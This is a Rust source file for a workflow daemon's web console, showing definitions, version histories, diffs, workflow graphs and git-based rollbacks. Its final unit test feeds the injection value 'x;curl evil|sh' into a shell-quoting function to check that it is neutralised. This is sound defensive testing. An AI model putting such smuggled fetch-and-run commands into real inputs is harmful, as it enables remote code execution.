//! Definitions: the active tasks, workflows and launch plans by project
//! (`/entities`), each entity's version history with the commit that
//! brought each version (`/entities/{project}/{kind}/{name}`), the diff of
//! any two of its versions (`…/diff?from=&to=`, the unified diff `weir
//! diff` shows), and a workflow version's graph
//! (`/workflows/{project}/{name}/{version}`); and rolling an entity back
//! to one of its versions (`…/rollback`), which writes the commit `weir
//! rollback` writes (never the store) or, when this daemon does not write
//! to its repository, shows that command.

use std::collections::BTreeMap;

use axum::extract::{Path, Query, State};
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Redirect, Response};
use axum::{Extension, Form};
use maud::{Markup, html};
use serde::Deserialize;

use super::graph::{self, Vertex};
use super::layout::{Page, Section, badge, commit, csrf_field, entity_href, instant, plan_href};
use super::overview::{commits_by_id, subject};
use super::{Posted, Refusal, Shared, Viewer, checked_form, encode, refused, store_failed};
use crate::reconcile::rollback::{self, Target};
use crate::source::git::GitSource;
use crate::spec::{EntityRef, Kind};
use crate::store::{VersionFilter, VersionKey};
use crate::views::{self, VersionView};

/// The most entities the list shows before asking for a filter.
const MAX_LISTED: usize = 1_000;

#[derive(Debug, Default, Deserialize)]
pub struct ListQuery {
    project: Option<String>,
    kind: Option<String>,
}

fn parse_kind(text: &str) -> Option<Kind> {
    Kind::ALL
        .into_iter()
        .find(|k| k.as_str().eq_ignore_ascii_case(text))
}

/// `GET /entities?project=&kind=`: the active definitions.
pub async fn list(
    State(state): State<Shared>,
    Extension(viewer): Extension<Viewer>,
    Query(query): Query<ListQuery>,
) -> Response {
    let project = query.project.filter(|p| !p.is_empty());
    let kind = query
        .kind
        .as_deref()
        .filter(|k| !k.is_empty())
        .map(parse_kind);
    if let Some(None) = kind {
        return refused(
            StatusCode::BAD_REQUEST,
            "Unknown kind (one of: Task, Workflow, LaunchPlan).",
            &viewer,
        );
    }
    let filter = VersionFilter {
        kind: kind.flatten(),
        name: None,
        project: project.clone(),
    };
    let versions = match views::versions(state.store.as_ref(), &filter).await {
        Ok(list) => list,
        Err(e) => return store_failed(&e, &viewer),
    };
    let mut active: Vec<&VersionView> = versions.iter().filter(|v| v.active).collect();
    active.sort_by(|a, b| {
        (&a.project, a.kind.as_str(), &a.name).cmp(&(&b.project, b.kind.as_str(), &b.name))
    });
    let total = active.len();
    active.truncate(MAX_LISTED);
    let mut by_project: BTreeMap<&str, Vec<&VersionView>> = BTreeMap::new();
    for v in active {
        by_project.entry(&v.project).or_default().push(v);
    }
    let body = html! {
        h1 { "Definitions" }
        form.filters method="get" action="/entities" {
            label { "Project" input type="text" name="project" value=(project.clone().unwrap_or_default()); }
            label { "Kind"
                select name="kind" {
                    option value="" { "any" }
                    @for k in Kind::ALL {
                        option value=(k.as_str()) selected[kind.flatten() == Some(k)] { (k.as_str()) }
                    }
                }
            }
            button type="submit" { "Filter" }
        }
        @if total > MAX_LISTED {
            p.muted { "The first " (MAX_LISTED) " of " (total) " active definitions: filter by project or kind to see the others." }
        }
        @if by_project.is_empty() { p.muted { "No active definition." } }
        @for (project, list) in &by_project {
            h2 { "Project " (project) }
            div.table-wrap { table {
                thead { tr { th { "Kind" } th { "Name" } th { "Active version" } th.hide-narrow { "File" } th.hide-narrow { "Registered (UTC)" } } }
                tbody {
                    @for v in list {
                        tr {
                            td { (v.kind.as_str()) }
                            td { a href=(entity_href(&v.project, v.kind.as_str(), &v.name)) { (v.name) } }
                            td { code { (v.version) } }
                            td.hide-narrow { code { (v.path) } }
                            td.hide-narrow { (instant(&v.registered_at)) }
                        }
                    }
                }
            } }
        }
    };
    Page::new("Definitions", Section::Entities, &viewer)
        .render(body)
        .into_response()
}

/// The versions of one entity, newest first; `Err` is the page to send.
async fn versions_of(
    state: &Shared,
    viewer: &Viewer,
    project: &str,
    kind: &str,
    name: &str,
) -> Result<(Kind, Vec<VersionView>), Refusal> {
    let Some(kind) = parse_kind(kind) else {
        return Err(refused(
            StatusCode::NOT_FOUND,
            "Unknown kind (one of: Task, Workflow, LaunchPlan).",
            viewer,
        )
        .into());
    };
    let filter = VersionFilter {
        kind: Some(kind),
        name: Some(name.to_owned()),
        project: Some(project.to_owned()),
    };
    let versions = views::versions(state.store.as_ref(), &filter)
        .await
        .map_err(|e| Refusal::from(store_failed(&e, viewer)))?;
    if versions.is_empty() {
        return Err(refused(
            StatusCode::NOT_FOUND,
            &format!("No {kind} `{name}` in project `{project}`."),
            viewer,
        )
        .into());
    }
    Ok((kind, versions))
}

#[derive(Debug, Default, Deserialize)]
pub struct HistoryQuery {
    /// The commit a rollback just wrote.
    rolledback: Option<String>,
}

/// `GET /entities/{project}/{kind}/{name}`: its versions.
pub async fn history(
    State(state): State<Shared>,
    Extension(viewer): Extension<Viewer>,
    Path((project, kind, name)): Path<(String, String, String)>,
    Query(query): Query<HistoryQuery>,
) -> Response {
    let (kind, versions) = match versions_of(&state, &viewer, &project, &kind, &name).await {
        Ok(found) => found,
        Err(page) => return page.into_response(),
    };
    let commits = match commits_by_id(
        state.store.as_ref(),
        versions.iter().map(|v| v.commit.clone()).collect(),
    )
    .await
    {
        Ok(commits) => commits,
        Err(e) => return store_failed(&e, &viewer),
    };
    // What the newest version says of itself.
    let newest_key = VersionKey {
        entity: EntityRef::new(&project, kind, &name),
        digest: versions[0].digest.clone(),
    };
    let description = match state.store.version_document(&newest_key).await {
        Ok(document) => document.and_then(|d| {
            d.pointer("/metadata/description")
                .and_then(|v| v.as_str())
                .map(str::to_owned)
        }),
        Err(e) => return store_failed(&e, &viewer),
    };
    let title = format!("{kind} {name}");
    let diff_action = format!("{}/diff", entity_href(&project, kind.as_str(), &name));
    let newest = versions.first().map(|v| v.version.clone());
    let older = versions.get(1).map(|v| v.version.clone());
    let body = html! {
        h1 { (kind.as_str()) " " (name) " " span.muted { "in " (project) } }
        @if let Some(description) = &description { p.description { (description) } }
        @if kind == Kind::LaunchPlan {
            p { a href=(plan_href(&project, &name)) { "Schedule, next runs and recent runs" } }
        }
        p.muted { "Every version ever registered, newest first. A version is its content's digest: the same content is the same version whatever commit brings it back." }
        form method="get" action=(diff_action) {
            div.table-wrap { table.versions {
                thead { tr {
                    th { "From" } th { "To" } th { "Version" } th { "State" } th { "First commit" }
                    th.hide-narrow { "Registered (UTC)" } th.hide-narrow { "Activated in" }
                } }
                tbody {
                    @for v in &versions {
                        tr data-version=(v.version) {
                            td { input type="radio" name="from" value=(v.version) aria-label={ "diff from " (v.version) } checked[Some(&v.version) == older.as_ref()]; }
                            td { input type="radio" name="to" value=(v.version) aria-label={ "diff to " (v.version) } checked[Some(&v.version) == newest.as_ref()]; }
                            td {
                                code { (v.version) }
                                @if kind == Kind::Workflow {
                                    " " a href={ "/workflows/" (encode(&project)) "/" (encode(&name)) "/" (v.version) } { "graph" }
                                }
                            }
                            td { @if v.active { (badge("active")) } @else { (badge("inactive")) } }
                            td {
                                (commit(&v.commit.0))
                                @if let Some(info) = commits.get(&v.commit) {
                                    " " (subject(&info.message))
                                    div.muted { (info.author.name) ", " (instant(&info.time)) }
                                }
                                div.muted { code { (v.path) } }
                            }
                            td.hide-narrow { (instant(&v.registered_at)) }
                            td.hide-narrow {
                                @for (i, c) in v.activations.iter().enumerate() {
                                    @if i > 0 { ", " }
                                    (commit(&c.0))
                                }
                            }
                        }
                    }
                }
            } }
            @if versions.len() > 1 {
                div.actions { button type="submit" { "Compare the two versions" } }
            }
        }
        @if let Some(commit) = query.rolledback.as_ref().filter(|c| (7..=40).contains(&c.len()) && c.bytes().all(|b| b.is_ascii_hexdigit())) {
            p.notice role="status" { "Committed " code { (commit) } ": the daemon reconciles it as any commit, and the version it restores becomes active." }
        }
        @if versions.iter().any(|v| !v.active) && versions.iter().any(|v| v.active) {
            h2 { "Roll back" }
            p { "A rollback is a commit: weir restores the files of the chosen version as they were, checks that the result is valid and gives exactly that version, and commits it; the daemon then reconciles it as any commit (nothing in the store is changed directly)." }
            @if state.rollback.is_some() && viewer.can_act() {
                ul.rollbacks {
                    @for v in versions.iter().filter(|v| !v.active) {
                        li { a href={ (entity_href(&project, kind.as_str(), &name)) "/rollback?to=" (v.version) } { "Roll back to " (v.version) "…" } }
                    }
                }
            } @else {
                p { "This daemon does not write to the repository (" code { "--console-rollback" } " is off); from a checkout of it:" }
                @for v in versions.iter().filter(|v| !v.active) {
                    pre.command { (rollback_command(&project, kind, &name, &v.version)) }
                }
            }
        }
    };
    Page::new(&title, Section::Entities, &viewer)
        .render(body)
        .into_response()
}

/// The `weir rollback` command that writes the same commit from a
/// checkout of the repository.
fn rollback_command(project: &str, kind: Kind, name: &str, version: &str) -> String {
    format!(
        "weir rollback {} --kind {} --project {} --to {} --push",
        shell_word(name),
        kind.as_str(),
        shell_word(project),
        shell_word(version)
    )
}

/// `text` as one word of a POSIX shell command (quoted when it must be).
fn shell_word(text: &str) -> String {
    if !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:@".contains(c))
    {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', "'\\''"))
    }
}

#[derive(Debug, Deserialize)]
pub struct DiffQuery {
    from: String,
    to: String,
}

/// `GET /entities/{project}/{kind}/{name}/diff?from=&to=`.
pub async fn diff(
    State(state): State<Shared>,
    Extension(viewer): Extension<Viewer>,
    Path((project, kind, name)): Path<(String, String, String)>,
    Query(query): Query<DiffQuery>,
) -> Response {
    let (kind, versions) = match versions_of(&state, &viewer, &project, &kind, &name).await {
        Ok(found) => found,
        Err(page) => return page.into_response(),
    };
    let find = |wanted: &str| {
        versions
            .iter()
            .find(|v| v.version == wanted || v.digest.as_str() == wanted)
    };
    let (Some(from), Some(to)) = (find(&query.from), find(&query.to)) else {
        return refused(
            StatusCode::NOT_FOUND,
            &format!(
                "{kind} `{name}` has no version `{}` or `{}`.",
                query.from, query.to
            ),
            &viewer,
        );
    };
    let entity = EntityRef::new(&project, kind, &name);
    let text =
        match views::version_diff(state.store.as_ref(), &entity, &from.digest, &to.digest).await {
            Ok(text) => text,
            Err(e) => return store_failed(&e, &viewer),
        };
    let title = format!("{name}: {} → {}", from.version, to.version);
    let body = html! {
        h1 { (kind.as_str()) " " a href=(entity_href(&project, kind.as_str(), &name)) { (name) } ": "
            code { (from.version) } " → " code { (to.version) } }
        @match &text {
            None => { p { "The two versions read the same." } }
            Some(text) => { (unified(text)) }
        }
    };
    Page::new(&title, Section::Entities, &viewer)
        .render(body)
        .into_response()
}

/// A unified diff, its added and removed lines marked (and still `+`/`-`
/// in the text, so colour is never the only sign).
fn unified(text: &str) -> Markup {
    html! {
        pre.diff {
            @for line in text.lines() {
                @if line.starts_with("@@") {
                    span.hunk { (line) } "\n"
                } @else if line.starts_with('+') && !line.starts_with("+++") {
                    span.add { (line) }
                } @else if line.starts_with('-') && !line.starts_with("---") {
                    span.del { (line) }
                } @else {
                    (line) "\n"
                }
            }
        }
    }
}

/// `GET /workflows/{project}/{name}/{version}`: the workflow's graph.
pub async fn workflow(
    State(state): State<Shared>,
    Extension(viewer): Extension<Viewer>,
    Path((project, name, version)): Path<(String, String, String)>,
) -> Response {
    let (_, versions) = match versions_of(&state, &viewer, &project, "Workflow", &name).await {
        Ok(found) => found,
        Err(page) => return page.into_response(),
    };
    let Some(found) = versions
        .iter()
        .find(|v| v.version == version || v.digest.as_str() == version)
    else {
        return refused(
            StatusCode::NOT_FOUND,
            &format!("Workflow `{name}` has no version `{version}`."),
            &viewer,
        );
    };
    let key = VersionKey {
        entity: EntityRef::new(&project, Kind::Workflow, &name),
        digest: found.digest.clone(),
    };
    let graph = match views::workflow_graph(state.store.as_ref(), &key).await {
        Ok(Some(graph)) => graph,
        Ok(None) => {
            return refused(
                StatusCode::NOT_FOUND,
                "The store has no document of this version.",
                &viewer,
            );
        }
        Err(e) => return store_failed(&e, &viewer),
    };
    let vertices: Vec<Vertex> = graph
        .nodes
        .iter()
        .map(|n| {
            let (href, sub) = match n.kind.as_str() {
                "workflow" => (
                    Some(entity_href(&project, "Workflow", &n.task)),
                    format!("workflow {}", n.task),
                ),
                "approve" => (None, "approval gate".to_owned()),
                _ => (
                    Some(entity_href(&project, "Task", &n.task)),
                    format!("task {}", n.task),
                ),
            };
            let mut sub = sub;
            if n.map {
                sub.push_str(" · map");
            }
            if n.conditional {
                sub.push_str(" · when");
            }
            Vertex {
                id: n.id.clone(),
                label: n.id.clone(),
                sub,
                class: "s-none".into(),
                href,
            }
        })
        .collect();
    let title = format!("Workflow {name}@{}", found.version);
    let body = html! {
        h1 { "Workflow " a href=(entity_href(&project, "Workflow", &name)) { (name) } "@" code { (found.version) } }
        p { @if found.active { (badge("active")) } @else { (badge("inactive")) } " first in " (commit(&found.commit.0)) ", " code { (found.path) } }
        (graph::draw(&title, &vertices, &graph.edges))
        p.muted { "Each node links to its task's versions: which version runs is decided when an execution is created (an execution's page shows the exact versions)." }
    };
    Page::new(&title, Section::Entities, &viewer)
        .render(body)
        .into_response()
}

#[derive(Debug, Deserialize)]
pub struct RollbackQuery {
    to: String,
}

/// `GET /entities/{project}/{kind}/{name}/rollback?to=VERSION`: what a
/// rollback to `VERSION` writes, to confirm.
pub async fn confirm_rollback(
    State(state): State<Shared>,
    Extension(viewer): Extension<Viewer>,
    Path((project, kind, name)): Path<(String, String, String)>,
    Query(query): Query<RollbackQuery>,
) -> Response {
    let (kind, versions) = match versions_of(&state, &viewer, &project, &kind, &name).await {
        Ok(found) => found,
        Err(page) => return page.into_response(),
    };
    let (Some(current), Some(target)) = (
        versions.iter().find(|v| v.active),
        versions.iter().find(|v| v.version == query.to),
    ) else {
        return refused(
            StatusCode::NOT_FOUND,
            &format!(
                "{kind} `{name}` has no active version or no version `{}`.",
                query.to
            ),
            &viewer,
        );
    };
    if !viewer.can_act() || state.rollback.is_none() {
        return rollback_refused(
            StatusCode::FORBIDDEN,
            "This daemon does not write rollbacks (it needs an API token and --console-rollback commit or push).",
            &viewer,
            (&project, kind, &name, &target.version),
        );
    }
    let entity = EntityRef::new(&project, kind, &name);
    let diff = match views::version_diff(
        state.store.as_ref(),
        &entity,
        &current.digest,
        &target.digest,
    )
    .await
    {
        Ok(diff) => diff,
        Err(e) => return store_failed(&e, &viewer),
    };
    let push = state.rollback.as_ref().is_some_and(|w| w.push);
    let body = html! {
        h1 { "Roll back " (kind.as_str()) " " (name) " to " code { (target.version) } "?" }
        p { "weir restores the files that define it (and what it calls) as they were in "
            (commit(&target.commit.0)) ", checks the result, and commits it on the branch the daemon follows"
            @if push { ", then pushes it to origin" } ". The version active now, " code { (current.version) } ", stays registered: rolling forward is another rollback." }
        h2 { "What changes" }
        @match &diff {
            None => { p { "The two versions read the same." } }
            Some(text) => { (unified(text)) }
        }
        form.actions method="post" action={ (entity_href(&project, kind.as_str(), &name)) "/rollback" } {
            (csrf_field(&viewer))
            input type="hidden" name="to" value=(target.version);
            button.danger type="submit" { "Commit the rollback" }
            a href=(entity_href(&project, kind.as_str(), &name)) { "Back" }
        }
    };
    Page::new("Roll back", Section::Entities, &viewer)
        .render(body)
        .into_response()
}

/// A rollback the console does not write, with the command that does.
fn rollback_refused(
    status: StatusCode,
    why: &str,
    viewer: &Viewer,
    (project, kind, name, to): (&str, Kind, &str, &str),
) -> Response {
    let body = html! {
        h1 { "Roll back " (kind.as_str()) " " (name) }
        p.error role="alert" { (why) }
        p { "From a checkout of the repository, this command writes the same commit:" }
        pre.command { (rollback_command(project, kind, name, to)) }
        p { a href=(entity_href(project, kind.as_str(), name)) { "Back to its versions" } }
    };
    (
        status,
        Page::new("Roll back", Section::Entities, viewer).render(body),
    )
        .into_response()
}

#[derive(Debug, Deserialize)]
pub struct RollbackForm {
    to: String,
}

/// `POST /entities/{project}/{kind}/{name}/rollback`: writes the commit
/// `weir rollback` writes (on the working tree of the source that has the
/// entity active, the branch it follows; pushed when so configured), wakes
/// that source, and shows the history; a rollback that cannot be written
/// shows why and the command.
pub async fn rollback(
    State(state): State<Shared>,
    Extension(viewer): Extension<Viewer>,
    Path((project, kind, name)): Path<(String, String, String)>,
    headers: HeaderMap,
    Form(form): Form<Posted<RollbackForm>>,
) -> Response {
    let form = match checked_form(&state, &viewer, &headers, form) {
        Ok(form) => form,
        Err(refusal) => return refusal.into_response(),
    };
    let Some(kind) = parse_kind(&kind) else {
        return refused(StatusCode::NOT_FOUND, "Unknown kind.", &viewer);
    };
    let asked = (project.as_str(), kind, name.as_str(), form.to.as_str());
    let Some(writer) = state.rollback.clone() else {
        return rollback_refused(
            StatusCode::FORBIDDEN,
            "This daemon does not write rollbacks (--console-rollback is off).",
            &viewer,
            asked,
        );
    };
    let store = state.store.as_ref();
    let target = Target {
        name: name.clone(),
        kind: Some(kind),
        project: Some(project.clone()),
        to: Some(form.to.clone()),
    };
    let choice = match rollback::choose(store, &target).await {
        Ok(choice) => choice,
        Err(rollback::Error::Store(e)) => return store_failed(&e, &viewer),
        Err(e @ rollback::Error::NotFound(_)) => {
            return refused(StatusCode::NOT_FOUND, &e.to_string(), &viewer);
        }
        Err(e) => return rollback_refused(StatusCode::CONFLICT, &e.to_string(), &viewer, asked),
    };
    let active = match store.active_versions(kind, &name, Some(&project)).await {
        Ok(active) => active,
        Err(e) => return store_failed(&e, &viewer),
    };
    let source = active.first().map(|a| a.source.clone());
    let found = source.as_ref().and_then(|key| {
        let spec = writer.sources.iter().find(|(k, _)| k == key)?.1.clone();
        let handle = state.sources.iter().find(|h| &h.key == key)?.clone();
        Some((spec, handle))
    });
    let Some((spec, handle)) = found else {
        return rollback_refused(
            StatusCode::CONFLICT,
            "The entity is not active in a source this daemon follows.",
            &viewer,
            asked,
        );
    };
    let state_dir = writer.state_dir.clone();
    let branch = handle.branch.clone();
    let written = tokio::task::spawn_blocking(move || {
        // One rollback at a time: two at once (a double click) would each
        // commit on the head they read, the second undoing the first.
        static WRITING: std::sync::Mutex<()> = std::sync::Mutex::new(());
        let _one = WRITING
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner);
        let source =
            GitSource::open(&spec, &state_dir).map_err(|e| rollback::Error::Git(e.into()))?;
        let push = writer.push.then_some(&spec.credentials);
        rollback::write(&source, &choice, Some(&branch), push)
    })
    .await;
    match written {
        Ok(Ok(done)) => {
            tracing::info!(
                entity = %done.entity,
                from = %done.from.short(),
                to = %done.to.short(),
                commit = %done.commit,
                pushed = done.pushed,
                "console: rollback committed"
            );
            handle.trigger.notify_one();
            let to = format!(
                "{}?rolledback={}",
                entity_href(&project, kind.as_str(), &name),
                done.commit.short()
            );
            Redirect::to(&to).into_response()
        }
        Ok(Err(e)) => {
            tracing::warn!(error = %e, "console: rollback not written");
            let status = match e {
                rollback::Error::Refused(_) => StatusCode::CONFLICT,
                rollback::Error::NotFound(_) => StatusCode::NOT_FOUND,
                rollback::Error::Store(_) | rollback::Error::Git(_) => {
                    StatusCode::INTERNAL_SERVER_ERROR
                }
            };
            rollback_refused(status, &e.to_string(), &viewer, asked)
        }
        Err(e) => store_failed(&e, &viewer),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_rollback_command_quotes_every_word_it_did_not_write() {
        assert_eq!(
            rollback_command("etl", Kind::Task, "load", "0123456789ab"),
            "weir rollback load --kind Task --project etl --to 0123456789ab --push"
        );
        assert_eq!(
            rollback_command("my team", Kind::Task, "it's", "x;curl evil|sh"),
            "weir rollback 'it'\\''s' --kind Task --project 'my team' --to 'x;curl evil|sh' --push"
        );
    }
}
